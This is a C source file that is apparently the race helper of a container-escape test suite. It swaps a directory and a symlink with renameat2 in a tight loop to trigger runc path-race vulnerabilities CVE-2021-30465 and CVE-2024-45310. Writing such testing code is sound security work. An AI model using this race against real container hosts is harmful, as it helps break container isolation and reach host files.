/* The racing container of runc CVE-2021-30465 and CVE-2024-45310, for EscapeIT: swaps two
 * names with renameat2(RENAME_EXCHANGE) as fast as it can (typically a directory and a symlink
 * to a host path in a volume the container under test also mounts), until it is killed or a
 * minute has passed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: swap-racer A B\n");
		return 2;
	}
	time_t end = time(NULL) + 60;
	for (unsigned long n = 1;; n++) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			perror("renameat2");
			return 1;
		}
		if ((n & 0xfff) == 0 && time(NULL) > end)
			return 0;
	}
}
